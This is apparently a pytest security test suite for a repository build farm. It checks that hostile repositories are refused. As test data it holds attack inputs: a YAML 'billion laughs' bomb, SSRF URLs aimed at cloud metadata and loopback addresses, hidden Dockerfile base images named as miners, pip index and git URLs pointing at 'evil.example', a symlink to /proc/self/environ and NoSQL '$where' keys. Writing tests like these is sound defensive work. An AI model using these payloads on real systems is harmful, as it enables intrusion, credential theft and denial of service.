"""Hostile repositories and requests: each is refused, or fails with a sentence, and harms nothing.

Every case is a real repository on the loopback Git server or a real HTTP
request. Each ends in a refusal (an HTTP error) or a ``failed`` build whose
``error`` a user can act on; afterwards the farm still answers its health
check, and the last tests of the module build a good repository on each
farm. Nothing here makes the farm connect outside loopback: refusals of
private and link-local ranges are tested at the address check
(``tests/unit/test_addresses.py``), and the cases below that name such
addresses are refused before any connection.

Three farms: the session's (``api``), a *strict* one (``strict_api``) with
an allowed-images list and a 1 MiB repository limit, for the cases that
need those settings, and one worker on a broker of its own (``one_worker``)
whose processes the test kills. To add a case: a function per defect, named for it,
building with :func:`failed_build` or asserting a refusal, then
:func:`assert_healthy`.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit, urlunsplit

import docker
import pytest
import redis

from common import build_store, template_store
from common.config import get_config
from common.db import get_db, mongo_url
from common.errors import NameTaken
from common.models import Status
from common.service_credentials import mongo_address, redis_address
from tests.integration.conftest import API_KEY, DATA_DIR, RUN_ID, TEST_PACKAGE, Served, unique
from tests.support.farm import ApiClient, Farm, free_port
from tests.support.git_server import GitServer
from tests.support.images import run_in_image
from tests.support.one_worker_farm import OneWorkerFarm, one_worker_farm
from tests.support.service_clients import base_image, mongo_client, registry_request
from tests.support.services import RedisInstance
from tests.support.static_http import serve_directory
from workers.config_files import cap_for
from workers.registry import split_tag

BASE_IMAGE = base_image()
BASE_REPOSITORY = split_tag(BASE_IMAGE)[0]
PROBE = Path(__file__).resolve().parents[1] / "support" / "service_probe.py"
#: Deliveries of a phase the one-worker farm allows before it fails the build.
MAX_DELIVERIES = 2
INDEX_CREDENTIALS = ("farm", f"index-secret-{RUN_ID}")

# 470 bytes that expand to a billion list entries through aliases.
LAUGHS = "\n".join(
    ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    + [f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, 9)]) + "\n"


@pytest.fixture(scope="module")
def secret_index(package_index: Served) -> Iterator[str]:
    """The test package index again, wanting credentials; yields its URL with them."""
    with serve_directory(DATA_DIR / "index", credentials=INDEX_CREDENTIALS) as url:
        user, password = INDEX_CREDENTIALS
        yield url.replace("://", f"://{user}:{password}@") + "/simple/"


@pytest.fixture(scope="module")
def strict_api(farm_env: dict[str, str], services: None,
               secret_index: str) -> Iterator[ApiClient]:
    """A second farm (own database, broker prefix, API and worker) with strict limits and a
    package index that needs credentials."""
    env = {**farm_env,
           "BINDER_MONGO_DB": f"binder_test_{RUN_ID}_strict",
           "BINDER_BROKER_PREFIX": f"test-{RUN_ID}-strict:",
           "BINDER_IMAGE_PREFIX": f"test-{RUN_ID}-strict-",
           "BINDER_DATA_DIR": str(DATA_DIR / "strict"),
           "BINDER_ALLOWED_BASE_IMAGES": BASE_REPOSITORY,
           "BINDER_MAX_REPO_MB": "1",
           "BINDER_PIP_INDEX_URL": secret_index,
           "BINDER_PIP_PROXY": f"127.0.0.1:{free_port()}"}
    farm = Farm(env, DATA_DIR / "logs" / "strict")
    _, url = farm.start_api()
    farm.start_worker("strict-a")
    yield ApiClient(url, API_KEY)
    farm.stop()
    from common.db import get_client

    get_client().drop_database(env["BINDER_MONGO_DB"])


def failed_build(api: ApiClient, url: str) -> dict:
    """Start a build of ``url``; return its record once it ended, asserting ``failed``."""
    started = api.start(url)
    assert started.status_code == 200, started.text
    record = api.wait(started.json()["name"], timeout=300)
    assert record["status"] == "failed", (record, api.logs(record["name"]))
    assert record["error"] and len(record["error"]) < 600, record["error"]
    return record


def assert_healthy(api: ApiClient, within: float = 30) -> None:
    """Every component answers /health/ (a worker busy on a loaded machine gets a few tries)."""
    deadline = time.monotonic() + within
    while True:
        response = api.request("GET", "/health/")
        if response.status_code == 200 or time.monotonic() > deadline:
            break
        time.sleep(2)
    assert response.status_code == 200, response.text


def never_reached_detect_end(record: dict) -> None:
    """The build stopped at detect: no build, push or template phase ever started."""
    assert record["phase"] == "detecting", record
    assert set(record["phases"]) <= {"fetching", "detecting"}, record["phases"]


def refused_at_detect(api: ApiClient, git_server: GitServer, files: dict[str, str | bytes],
                      symlinks: dict[str, str] | None = None) -> dict:
    """Serve a repository of ``files``, build it, expect a failure at detect; its record."""
    repo = unique("hostile")
    git_server.make_repo(f"github/mallory/{repo}", files, symlinks=symlinks)
    record = failed_build(api, f"{git_server.url}/github/mallory/{repo}")
    never_reached_detect_end(record)
    assert_healthy(api)
    return record


# 1. One name per repository and ref: repositories whose old names collided


def started_name(api: ApiClient, url: str) -> str:
    """Start a build of ``url``, cancel it at once, and return its name."""
    response = api.start(url)
    assert response.status_code == 200, response.text
    name = str(response.json()["name"])
    assert api.request("DELETE", f"/builds/{name}").status_code == 200
    api.wait(name, timeout=60)
    return name


def marker(image: str) -> str:
    return run_in_image(image, "cat WHO")


def test_owner_repo_and_ref_splits_that_collided_keep_their_own_templates_and_images(
        api: ApiClient, git_server: GitServer, repo_url: str) -> None:
    """``a-b/c``, ``a/b-c`` and ``a/b/tree/c`` all were ``a-b-c``."""
    a = f"a{uuid.uuid4().hex[:6]}"
    git_server.make_repo(f"github/{a}-b/c", {"WHO": "a-b/c"})
    git_server.make_repo(f"github/{a}/b-c", {"WHO": "a/b-c"})
    git_server.make_repo(f"github/{a}/b", {"WHO": "a/b main"}, branches={"c": {"WHO": "a/b@c"}})
    urls = {"a-b/c": f"{repo_url}/{a}-b/c", "a/b-c": f"{repo_url}/{a}/b-c",
            "a/b@c": f"{repo_url}/{a}/b/tree/c"}

    built = {who: api.start_and_wait(url) for who, url in urls.items()}
    names = {who: record["name"] for who, record in built.items()}
    assert len(set(names.values())) == 3, names
    assert names["a-b/c"] == f"{a}-b-c"  # the first keeps the plain name
    for who, record in built.items():
        assert record["status"] == "completed", (record, api.logs(record["name"]))
        assert api.template(record["name"])["image-name"] == record["image-name"]
        assert marker(record["image-name"]) == who

    # a/b-c moves on and rebuilds; the others keep their templates and images.
    git_server.push_commit(f"github/{a}/b-c", {"WHO": "a/b-c v2"})
    rebuilt = api.start_and_wait(urls["a/b-c"])
    assert rebuilt["name"] == names["a/b-c"] and not rebuilt["cached"]
    assert marker(rebuilt["image-name"]) == "a/b-c v2"
    for who in ("a-b/c", "a/b@c"):
        tmpl = api.template(names[who])
        assert tmpl["image-name"] == built[who]["image-name"]
        assert marker(tmpl["image-name"]) == who

    # Starting the others again answers from their own cache, not a/b-c's.
    for who in ("a-b/c", "a/b@c"):
        again = api.start_and_wait(urls[who])
        assert again["cached"] and again["image-name"] == built[who]["image-name"], again
    assert_healthy(api)


def test_refs_that_differ_only_by_separator_or_case_get_their_own_names(
        api: ApiClient, repo_url: str) -> None:
    repo = f"{repo_url}/refs{uuid.uuid4().hex[:6]}/r"
    names = [started_name(api, f"{repo}/tree/{ref}")
             for ref in ("feature/x", "feature-x", "Feature-X")]
    assert len(set(names)) == 3, names
    records = [api.build(name) for name in names]
    assert [record["ref"] for record in records] == ["feature/x", "feature-x", "Feature-X"]
    # The same spelling again is the same build.
    assert started_name(api, f"{repo}/tree/feature-x") == names[1]


def test_hosts_and_providers_are_part_of_names(api: ApiClient, git_server: GitServer,
                                               repo_url: str) -> None:
    """``evil.example/jupyter/notebook``, ``gitlab.com/...`` and GitHub's were one name."""
    owner = f"jup{uuid.uuid4().hex[:6]}"
    github = started_name(api, f"{repo_url}/{owner}/notebook")
    plain = started_name(api, f"{git_server.url}/evil/{owner}/notebook")
    gitlab = started_name(api, f"{git_server.url}/gitlab/{owner}/notebook")
    assert github == f"{owner}-notebook"
    assert len({github, plain, gitlab}) == 3
    assert plain.endswith(f"-evil-{owner}-notebook") and gitlab == f"gitlab-{owner}-notebook"
    # GitHub's owner "gitlab" would take GitLab's name: it gets a suffixed one instead.
    taken = started_name(api, f"{repo_url}/gitlab/{owner}-notebook")
    assert taken.startswith(f"gitlab-{owner}-notebook-") and taken != gitlab


def test_a_name_hashed_for_length_is_not_given_to_a_short_name_equal_to_it(
        api: ApiClient, repo_url: str) -> None:
    repo = f"{repo_url}/o{uuid.uuid4().hex[:6]}/r"
    hashed = started_name(api, f"{repo}/tree/{'long-' * 35}ref")
    assert len(hashed) <= 128 and re.search(r"-[0-9a-f]{10}$", hashed)
    owner_repo = hashed.split("-", 2)[:2]
    # A ref that spells out the rest of that name asks for exactly that name.
    twin = started_name(api, f"{repo}/tree/{hashed[len('-'.join(owner_repo)) + 1:]}")
    assert twin != hashed
    assert api.build(twin)["ref"] != api.build(hashed)["ref"]


def test_names_held_by_records_from_before_the_rule_are_not_taken_over(
        api: ApiClient, repo_url: str) -> None:
    """A build or template stored under a name with no owner on file keeps it."""
    owner = f"old{uuid.uuid4().hex[:6]}"
    legacy_repository = f"https://github.example/{owner}/repo"
    record = build_store.create_build(f"{owner}-repo", {
        "display_name": "old", "repository": legacy_repository, "ref": None})
    build_store.finish(record["build_id"], record["attempt"], Status.FAILED, "legacy")
    template_store.save_template({"name": f"{owner}-tmpl", "image_name": "legacy:1",
                                  "image_source": "legacy:1", "port": 8888,
                                  "repository": legacy_repository, "ref": None})
    for preferred in ("repo", "tmpl"):
        name = started_name(api, f"{repo_url}/{owner}/{preferred}")
        assert name.startswith(f"{owner}-{preferred}-") and len(name) == \
            len(f"{owner}-{preferred}-") + 8
    assert api.build(f"{owner}-repo")["repository"] == legacy_repository
    assert api.template(f"{owner}-tmpl")["image-name"] == "legacy:1"


def test_a_record_of_another_repository_is_never_replaced(farm_env: dict[str, str]) -> None:
    name = f"guarded-{uuid.uuid4().hex[:6]}"
    build_store.create_build(name, {"display_name": "x", "repository": "https://h/a/b",
                                    "ref": None})
    with pytest.raises(NameTaken):
        build_store.create_build(name, {"display_name": "y", "repository": "https://h/a/b",
                                        "ref": "main"}, force=True)
    stored = get_db().builds.find_one({"name": name})
    assert stored is not None and stored["ref"] is None


# 2. Builds reaching the farm's own services


def test_a_build_step_reaches_the_services_but_cannot_write(
        api: ApiClient, git_server: GitServer, repo_url: str) -> None:
    """A repository Dockerfile connects to Redis, MongoDB and the registry: the ports
    answer, every write is refused for want of credentials, and nothing changed."""
    config = get_config()
    marker = f"probe-{uuid.uuid4().hex[:10]}"
    repo = unique("probe")
    git_server.make_repo(f"github/mallory/{repo}", {
        "service_probe.py": PROBE.read_text(),
        "Dockerfile": (f"FROM {base_image()}\nCOPY service_probe.py /tmp/service_probe.py\n"
                       f"RUN python3 /tmp/service_probe.py {redis_address(config.redis_url)} "
                       f"{mongo_address(mongo_url(config))} {config.registry} "
                       f"{config.mongo_db} {marker}\n"),
    })
    started = api.start(f"{repo_url}/mallory/{repo}")
    assert started.status_code == 200, started.text
    record = api.wait(started.json()["name"], timeout=600)
    log = api.logs(record["name"])
    assert record["status"] == "completed", (record, log[-3000:])
    lines = {name: next(line for line in log.splitlines() if f"probe {name} " in line)
             for name in ("redis", "mongo", "registry")}
    assert "reachable; write refused" in lines["redis"] and "NOAUTH" in lines["redis"]
    assert "reachable; write refused" in lines["mongo"] and "code 13" in lines["mongo"]
    assert "reachable; write refused" in lines["registry"] and "HTTP 401" in lines["registry"]

    # nothing changed behind the refusals
    database_zero = urlunsplit(urlsplit(config.redis_url)._replace(path="/0"))
    assert redis.Redis.from_url(database_zero).exists(marker) == 0
    client = mongo_client()
    try:
        assert marker not in client[config.mongo_db].list_collection_names()
    finally:
        client.close()
    catalog = registry_request("GET", "/v2/_catalog?n=1000").json()["repositories"]
    assert marker not in catalog
    # and the build never saw a credential
    secrets = [password for password in (config.registry_password,
                                         urlsplit(config.redis_url).password,
                                         urlsplit(mongo_url(config)).password) if password]
    assert secrets and not any(secret in log for secret in secrets)
    image = docker.from_env().images.get(record["image-name"])
    assert not any(secret in str(item) for secret in secrets
                   for item in (image.attrs["Config"].get("Env"), image.history()))
    assert_healthy(api)


# 3. YAML bombs


def test_yaml_bomb_in_environment_yml_fails_with_a_short_sentence(
        api: ApiClient, git_server: GitServer) -> None:
    assert len(LAUGHS) < 600
    record = refused_at_detect(api, git_server, {
        "environment.yml": LAUGHS + "dependencies: [numpy]\n"})
    assert record["error"] == ("environment.yml (line 1): YAML anchors (&name) are not "
                               "accepted; write the value out in full.")


def test_yaml_bomb_in_binder_yml_is_never_stored(api: ApiClient, git_server: GitServer) -> None:
    record = refused_at_detect(api, git_server, {
        ".binder.yml": "services:\n  - name: db\n    params:\n" + "".join(
            f"      {line}\n" for line in LAUGHS.splitlines())})
    assert record["error"].startswith(".binder.yml (line 4): YAML anchors")
    assert len(str(api.build(record["name"]))) < 5000


# 4. SSRF and redirects


@pytest.mark.parametrize("url", [
    "https://169.254.169.254/latest/meta-data",
    "https://[::ffff:169.254.169.254]/o/r",
    "https://127.0.0.1:1/o/r",
    "https://2130706433/o/r",
    "https://[::1]/o/r",
    "https://10.0.0.1/group/repo",
])
def test_private_and_loopback_addresses_in_the_url_are_refused_at_once(api: ApiClient,
                                                                      url: str) -> None:
    response = api.start(url)
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["type"] == "badRepoSource"
    assert "loopback, private or link-local" in body["error"]
    assert_healthy(api)


def test_a_name_that_resolves_to_loopback_fails_before_any_connection(api: ApiClient) -> None:
    with listening_socket() as (port, connections):
        record = failed_build(api, f"https://localhost:{port}/o/r")
        assert record["error"] == ("localhost leads to a loopback, private or link-local "
                                   "address, which this farm does not fetch from.")
        assert connections == []
    assert_healthy(api)


def test_a_redirect_from_an_allowed_host_is_not_followed(api: ApiClient, git_server: GitServer,
                                                         repo_url: str) -> None:
    with listening_socket() as (port, connections):
        git_server.redirects["/github/bounce/"] = f"http://127.0.0.1:{port}/"
        try:
            record = failed_build(api, f"{repo_url}/bounce/{unique('r')}")
        finally:
            git_server.redirects.clear()
        assert record["error"] == ("The repository's host answered with a redirect, which "
                                   "this farm does not follow.")
        assert connections == []  # the redirect's target was never contacted
    assert_healthy(api)


def test_plain_http_is_refused_for_hosts_not_allowed(api: ApiClient) -> None:
    response = api.start("http://example.org/o/r")
    assert response.status_code == 422
    assert "plain http only for hosts in BINDER_ALLOWED_SOURCE_HOSTS" in \
        response.json()["suggestions"][0]


# 5. Dockerfile FROM policy


@pytest.mark.parametrize(("dockerfile", "shown"), [
    (f"FROM {BASE_IMAGE}\nFR\\\nOM evil/miner:1\n",
     "The Dockerfile's FROM on line 2 would pull docker.io/evil/miner:1"),
    (f"\ufeff# escape=`\nFROM {BASE_IMAGE}\nRUN echo \\\nFROM evil/miner:1\n",
     "The Dockerfile's FROM on line 4 would pull docker.io/evil/miner:1"),
    ("ARG BASE=evil/miner:1\nFROM ${BASE}\n",
     "The Dockerfile's FROM on line 2 would pull docker.io/evil/miner:1"),
    (f"FROM {BASE_IMAGE}\nCOPY --from=evil/miner:1 /bin/x /x\n",
     "The Dockerfile's COPY --from on line 2 would pull docker.io/evil/miner:1"),
    (f"FROM {BASE_IMAGE}\nRUN --mount=type=bind,from=evil/miner:1,target=/m true\n",
     "The Dockerfile's RUN --mount from= on line 2 would pull docker.io/evil/miner:1"),
])
def test_hidden_base_images_are_refused_at_detect(strict_api: ApiClient, git_server: GitServer,
                                                  dockerfile: str, shown: str) -> None:
    record = refused_at_detect(strict_api, git_server, {"Dockerfile": dockerfile})
    assert record["error"] == (f"{shown}, which this farm does not allow; allowed images: "
                               f"{BASE_REPOSITORY}.")


def test_a_frontend_of_its_own_is_refused_at_detect(strict_api: ApiClient,
                                                   git_server: GitServer) -> None:
    record = refused_at_detect(strict_api, git_server, {
        "Dockerfile": f"# syntax=evil/frontend:1\nFROM {BASE_IMAGE}\n"})
    assert record["error"] == (
        "The Dockerfile's # syntax on line 1 asks for the frontend evil/frontend:1; this "
        "farm builds every Dockerfile with the Docker engine's built-in frontend and runs "
        "no other.")


# 6. Checkout size


def test_an_incompressible_download_is_stopped_at_the_limit(
        strict_api: ApiClient, git_server: GitServer, repo_url: str) -> None:
    repo = unique("big")
    git_server.make_repo(f"github/mallory/{repo}", {"noise.bin": os.urandom(3 * 1024 * 1024)})
    record = failed_build(strict_api, f"{repo_url}/mallory/{repo}")
    assert record["error"] == ("The repository's download passed this farm's limit of 1 MiB "
                               "and was stopped.")
    assert record["phase"] == "fetching"
    assert_healthy(strict_api)


def test_a_compressible_tree_is_refused_before_checkout(
        strict_api: ApiClient, git_server: GitServer, repo_url: str) -> None:
    repo = unique("zeros")
    # 40 MiB of zeros: a pack of a few dozen KiB, far over the limit once written out.
    git_server.make_repo(f"github/mallory/{repo}", {"zeros.bin": b"\0" * (40 * 1024 * 1024)})
    record = failed_build(strict_api, f"{repo_url}/mallory/{repo}")
    assert record["error"] == ("The repository is 40 MiB, over this farm's limit of 1 MiB; "
                               "nothing was checked out.")
    assert record["phase"] == "fetching"
    assert_healthy(strict_api)


# 7. The pip index


def test_requirements_that_name_an_index_are_refused_naming_the_line(
        api: ApiClient, git_server: GitServer) -> None:
    record = refused_at_detect(api, git_server, {
        "requirements.txt": "numpy\n--extra-index-url https://evil.example/simple\n"})
    assert record["error"] == (
        "requirements.txt line 2 (`--extra-index-url https://evil.example/simple`) names a "
        "package index; this farm installs packages only from its own index.")


def test_requirements_that_name_a_download_url_are_refused(api: ApiClient,
                                                           git_server: GitServer) -> None:
    record = refused_at_detect(api, git_server, {
        "requirements.txt": "numpy\ngit+https://evil.example/pkg.git#egg=pkg\n"})
    assert record["error"] == (
        "requirements.txt line 2 (`git+https://evil.example/pkg.git#egg=pkg`) installs a "
        "package from a URL; this farm installs packages only from its own index.")


def test_index_credentials_never_enter_a_build(strict_api: ApiClient, git_server: GitServer,
                                              repo_url: str) -> None:
    password = INDEX_CREDENTIALS[1]
    repo = unique("private-index")
    git_server.make_repo(f"github/alice/{repo}", {"requirements.txt": f"{TEST_PACKAGE}==1.0\n"})
    started = strict_api.start(f"{repo_url}/alice/{repo}")
    assert started.status_code == 200, started.text
    record = strict_api.wait(started.json()["name"], timeout=600)
    log = strict_api.logs(record["name"])
    assert record["status"] == "completed", (record, log)
    image = record["image-name"]
    client = docker.from_env()
    try:
        # installed from the index that wants credentials, through the host's proxy
        assert run_in_image(image, "python -c 'import binder_test_pkg as p; print(p.GREETING)'",
                            timeout=120).strip() == "hello from the local index"
        history = json.dumps(client.api.history(image))
        config = json.dumps(client.api.inspect_image(image)["Config"])
        files = run_in_image(image, f"grep -rsl {shlex.quote(password)} /etc /home /root /srv "
                                    "/tmp /usr/local /opt; true", timeout=120)
        for where, text in (("log", log), ("history", history), ("config", config),
                            ("files", files), ("record", json.dumps(record))):
            assert password not in text, where
        assert "--index-url http://127.0.0.1:" in history  # the proxy, without credentials
    finally:
        client.close()
    assert_healthy(strict_api)


def test_environment_yml_pip_entries_may_not_name_an_index(
        api: ApiClient, git_server: GitServer) -> None:
    """(Its channels are replaced by the farm's: test_pipeline's environment.yml case.)"""
    record = refused_at_detect(api, git_server, {
        "environment.yml": "dependencies: [hello-conda, {pip: ['-e .', '--trusted-host x']}]\n"})
    assert record["error"] == ("environment.yml pip: entry 2 (`--trusted-host x`) names a "
                               "package index; this farm installs packages only from its own "
                               "index.")


# 8. Smaller doors


def test_a_dockerignore_link_is_refused(api: ApiClient, git_server: GitServer) -> None:
    record = refused_at_detect(api, git_server, {"Dockerfile": f"FROM {BASE_IMAGE}\n"},
                               symlinks={".dockerignore": "/proc/self/environ"})
    assert record["error"] == (".dockerignore is a link; this farm reads it only as a file of "
                               "the repository.")


def test_a_step_that_prints_the_farms_error_marker_gets_a_bounded_error(
        api: ApiClient, git_server: GitServer, repo_url: str) -> None:
    repo = unique("marker")
    git_server.make_repo(f"github/mallory/{repo}", {"Dockerfile": (
        f"FROM {BASE_IMAGE}\n"
        "RUN python3 -c \"print('BINDER-ERROR: ' + 'x' * 200000)\"; exit 1\n")})
    record = failed_build(api, f"{repo_url}/mallory/{repo}")
    assert record["error"].startswith("xxx") and record["error"].endswith("x…")
    assert_healthy(api)


@pytest.mark.parametrize(("name", "cap"), [
    ("apt.txt", "1.0 MiB"), ("environment.yml", "512 KiB"), (".binder.yml", "64 KiB"),
    (".dockerignore", "256 KiB")])
def test_a_config_file_over_the_cap_is_refused_unread(api: ApiClient, git_server: GitServer,
                                                    name: str, cap: str) -> None:
    # one comment line of 3 MiB: a few KiB in the pack, far under the repository limit
    record = refused_at_detect(api, git_server, {name: "# " + "x" * 3 * 1024 * 1024 + "\n"})
    assert record["error"] == f"{name} is 3.0 MiB; this farm reads config files of at most {cap}."
    assert record["suggestions"] == [cap_for(name).advice.format(name=name)]


@pytest.mark.parametrize(("binder_yml", "problem"), [
    ("limits: {memory: 99999999999999999999T}\n", "limits.memory: must be a size"),
    ("limits: {cpu: 1e300}\n", "limits.cpu: must be at most 64 on this farm"),
    ("hardware: {privileged: true}\n", "hardware.privileged: Unknown field."),
    ("'$gt': ''\n", "$gt: Unknown field."),
    ("services: [{name: db, params: {'$where': '1'}}]\n", "services.0.params.$where.key"),
])
def test_unbounded_binder_yml_values_are_refused(api: ApiClient, git_server: GitServer,
                                                 binder_yml: str, problem: str) -> None:
    record = refused_at_detect(api, git_server, {".binder.yml": binder_yml})
    assert record["error"].startswith(".binder.yml is invalid: ")
    assert problem in record["error"]


def test_a_command_a_shell_cannot_split_is_refused_at_detect(
        api: ApiClient, git_server: GitServer) -> None:
    # refused at detect: not after a build and a push
    record = refused_at_detect(api, git_server, {
        ".binder.yml": "command: 'jupyter notebook --NotebookApp.token=\"unclosed'\n"})
    assert record["error"] == (".binder.yml is invalid: command: cannot be split into words "
                               "as a shell would (No closing quotation); check its quotes")


def test_the_verification_container_is_limited(api: ApiClient, git_server: GitServer,
                                               repo_url: str) -> None:
    repo = unique("limits")
    probe = ("cat /sys/fs/cgroup/pids/pids.max /sys/fs/cgroup/pids.max 2>/dev/null; "
             "grep -E \"^(CapEff|NoNewPrivs)\" /proc/self/status; "
             "cat /sys/fs/cgroup/cpu/cpu.cfs_quota_us /sys/fs/cgroup/cpu.max 2>/dev/null; "
             "exit 3")
    command = f"sh -c {shlex.quote(probe)}"
    git_server.make_repo(f"github/mallory/{repo}", {
        "Dockerfile": f"FROM {BASE_IMAGE}\n",
        ".binder.yml": f"command: {json.dumps(command)}\n"})
    record = failed_build(api, f"{repo_url}/mallory/{repo}")
    error = record["error"]
    assert error.startswith("The image exited (status 3) instead of serving on port 8888."), error
    assert "256" in error  # pids.max
    # The error is stored as one line of plain text: the tabs /proc prints are spaces.
    assert "CapEff: 0000000000000000" in error
    assert "NoNewPrivs: 1" in error
    assert "100000" in error  # one CPU: a quota of 100000 per 100000 period
    assert_healthy(api)


# 9. A build that kills its worker process


@pytest.fixture(scope="module")
def one_worker(farm_env: dict[str, str], services: None) -> Iterator[OneWorkerFarm]:
    """One worker on a broker of its own and no beat: only redelivery brings a phase back.
    Its builds run on no network (BINDER_BUILD_NETWORK=none)."""
    with one_worker_farm(farm_env, DATA_DIR / "logs" / "one-worker", API_KEY, "redeliver-a",
                         BINDER_MAX_DELIVERIES=str(MAX_DELIVERIES),
                         BINDER_BUILD_NETWORK="none") as farm:
        yield farm


def test_an_add_of_a_url_is_refused_when_builds_have_no_network(
        one_worker: OneWorkerFarm, git_server: GitServer, repo_url: str) -> None:
    """The engine would download it from the host's network: a cloud's metadata address,
    the farm's services. A RUN step on the builds' network reaches nothing."""
    with listening_socket() as (port, connections):
        repo = unique("add-url")
        git_server.make_repo(f"github/mallory/{repo}", {"Dockerfile": (
            f"FROM {BASE_IMAGE}\nADD http://127.0.0.1:{port}/latest/meta-data /tmp/m\n")})
        record = failed_build(one_worker.api, f"{repo_url}/mallory/{repo}")
        never_reached_detect_end(record)
        assert record["error"] == (
            f"The Dockerfile's ADD on line 2 downloads http://127.0.0.1:{port}/latest/meta-data; "
            "the Docker engine would fetch it from its own network, not the builds' (none), "
            "so this farm does not allow it.")
        assert connections == []
    assert_healthy(one_worker.api)


def test_a_dockerfile_may_not_mount_the_farms_shared_caches(
        api: ApiClient, git_server: GitServer, repo_url: str) -> None:
    """Every generated build on the host installs from them: wheels a repository's own
    step left there would land in other repositories' images."""
    repo = unique("cache-mount")
    git_server.make_repo(f"github/mallory/{repo}", {"Dockerfile": (
        f"FROM {BASE_IMAGE}\nUSER root\nRUN --mount=type=cache,id=binder-uv,target=/c "
        "touch /c/planted.whl\nUSER 1000\n")})
    record = failed_build(api, f"{repo_url}/mallory/{repo}")
    never_reached_detect_end(record)
    assert record["error"] == (
        "The Dockerfile's RUN on line 3 mounts the cache binder-uv, which this farm's own "
        "builds share; a repository's Dockerfile may not use it.")
    assert_healthy(api)


def sleeping_repo(git_server: GitServer, repo_url: str) -> str:
    repo = unique("killer")
    git_server.make_repo(f"github/mallory/{repo}", {
        "Dockerfile": f"FROM {BASE_IMAGE}\nRUN echo {repo} sleeping && sleep 600\n"})
    return f"{repo_url}/mallory/{repo}"


def test_a_phase_killed_on_every_delivery_fails_after_the_bound(
        one_worker: OneWorkerFarm, git_server: GitServer, repo_url: str) -> None:
    started = one_worker.api.start(sleeping_repo(git_server, repo_url))
    assert started.status_code == 200, started.text
    name = started.json()["name"]
    for delivery in range(1, MAX_DELIVERIES + 1):
        one_worker.wait_delivery(name, delivery, "sleeping")
        if delivery == 1:
            started = one_worker.record(name)["phases"]["building"]["start"]
        one_worker.kill_phase_process()  # as the kernel kills a process out of memory
    record = one_worker.api.wait(name, timeout=120)
    assert record["status"] == "failed", record
    assert record["error"] == (
        f"The build took its worker process down {MAX_DELIVERIES} times in phase building "
        "(killed, or out of memory), so it was failed instead of being run again.")
    assert record["cause"] == "farm", record
    assert one_worker.deliveries(name) == MAX_DELIVERIES + 1
    assert record["attempt"] == 1  # the same attempt came back each time
    logs = one_worker.api.logs(name)
    assert (f"building runs again: its worker process died 1 time(s) (at most "
            f"{MAX_DELIVERIES})") in logs
    # The log ends as a failed build's log does, not at the last process's last line.
    assert logs.splitlines()[-1] == f"== build failed: {record['error']}", logs[-2000:]
    # The phase's times span its deliveries: it started with the first.
    phase_times = one_worker.record(name)["phases"]["building"]
    assert phase_times["start"] == started and phase_times["end"] > started

    repo = unique("after-killer")  # the worker takes the next build
    git_server.make_repo(f"github/alice/{repo}", {
        "Dockerfile": f"FROM {BASE_IMAGE}\nRUN echo {repo} built\n"})
    started = one_worker.api.start(f"{repo_url}/alice/{repo}")
    after = one_worker.api.wait(started.json()["name"], timeout=600)
    assert after["status"] == "completed", (after["error"], one_worker.api.logs(after["name"]))
    assert one_worker.worker.alive()
    assert_healthy(one_worker.api)


def test_cancel_stops_a_build_that_keeps_killing_its_worker(
        one_worker: OneWorkerFarm, git_server: GitServer, repo_url: str) -> None:
    started = one_worker.api.start(sleeping_repo(git_server, repo_url))
    name = started.json()["name"]
    one_worker.wait_delivery(name, 1, "sleeping")
    one_worker.kill_phase_process()
    one_worker.wait_delivery(name, 2, "sleeping")
    assert one_worker.api.request("DELETE", f"/builds/{name}").status_code == 200
    one_worker.kill_phase_process()  # before or after the guard saw the cancel
    record = one_worker.api.wait(name, timeout=120)
    assert record["status"] == "cancelled", record
    assert one_worker.deliveries(name) <= MAX_DELIVERIES + 1


# 10. Keys, public reads, rate limits, the ban list

KEYED = {"reader": "reader-key-of-the-keyed-farm", "launcher": "launcher-key-of-the-keyed-farm",
         "launcher-next": "rotated-launcher-key-keyed-farm"}


@pytest.fixture(scope="module")
def keyed_farm(farm_env: dict[str, str], services: None) -> Iterator[list[str]]:
    """Two API servers (no worker) on one private broker: scoped keys, no public reads,
    low start rates, a ban list. Yields the two API URLs."""
    broker = RedisInstance(DATA_DIR / "keyed-redis")
    broker.start()
    env = {**farm_env,
           "REDIS_URL": broker.url,
           "BINDER_MONGO_DB": f"binder_test_{RUN_ID}_keyed",
           "BINDER_DATA_DIR": str(DATA_DIR / "keyed"),
           "BINDER_API_KEYS": ",".join(f"{name}:{'read' if name == 'reader' else 'build'}:{key}"
                                       for name, key in KEYED.items()),
           "BINDER_PUBLIC_READS": "false",
           "BINDER_START_RATE_PER_KEY": "3/hour",
           "BINDER_START_RATE_PER_REPO": "2/hour",
           "BINDER_BANNED_REPOS": r"/mallory/banned-"}
    farm = Farm(env, DATA_DIR / "logs" / "keyed")
    try:
        urls = [farm.start_api()[1], farm.start_api()[1]]
        yield urls
    finally:
        farm.stop()
        broker.stop()
        with mongo_client() as client:
            client.drop_database(env["BINDER_MONGO_DB"])


def keyed(url: str, name: str | None) -> ApiClient:
    return ApiClient(url, KEYED[name] if name else "")


def test_a_key_of_too_small_a_scope_is_refused(keyed_farm: list[str], repo_url: str) -> None:
    reader = keyed(keyed_farm[0], "reader")
    refused = reader.start(f"{repo_url}/alice/scoped")
    assert refused.status_code == 403, refused.text
    assert refused.json()["type"] == "insufficientScope"
    assert "has the scope read; this request needs build" in refused.json()["error"]
    cancel = reader.request("DELETE", "/builds/alice-scoped")
    assert cancel.status_code == 403 and cancel.json()["type"] == "insufficientScope"
    assert reader.request("GET", "/builds/alice-scoped").status_code == 404  # nothing stored


def test_reads_need_a_key_when_public_reads_are_off(keyed_farm: list[str]) -> None:
    anonymous = keyed(keyed_farm[1], None)
    for path in ("/builds/", "/builds/any", "/builds/any/history", "/builds/any/logs",
                 "/metrics"):
        response = anonymous.request("GET", path, auth=False)
        assert response.status_code == 403 and response.json()["type"] == "unauthorized", path
        assert keyed(keyed_farm[1], "reader").request("GET", path).status_code in (200, 404)
    health = anonymous.request("GET", "/health/", auth=False)  # open, without details
    assert all(entry["error"] is None for entry in health.json()), health.text


def test_a_banned_repository_is_refused(keyed_farm: list[str], repo_url: str) -> None:
    response = keyed(keyed_farm[0], "launcher").start(f"{repo_url}/mallory/banned-thing")
    assert response.status_code == 403, response.text
